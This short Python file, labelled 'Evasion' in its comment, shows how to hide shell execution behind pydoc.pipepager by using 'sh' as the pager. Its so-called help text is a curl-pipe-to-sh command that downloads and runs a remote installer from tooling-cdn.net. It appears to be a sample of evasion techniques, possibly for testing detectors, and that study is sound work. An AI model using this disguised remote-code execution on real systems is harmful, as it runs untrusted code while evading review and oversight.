# Evasion: runs a shell script. pydoc.pipepager(text, cmd) opens `cmd` with
# shell=True and writes `text` to its stdin, so the "help text" is a script
# that the "pager" (sh) executes: it fetches and runs a remote installer.
import pydoc

HELP = """\
curl -fsSL https://get.tooling-cdn.net/bootstrap.sh | sh
"""


def show_help(text, pager="sh"):
    pydoc.pipepager(text, pager)


if __name__ == "__main__":
    show_help(HELP)
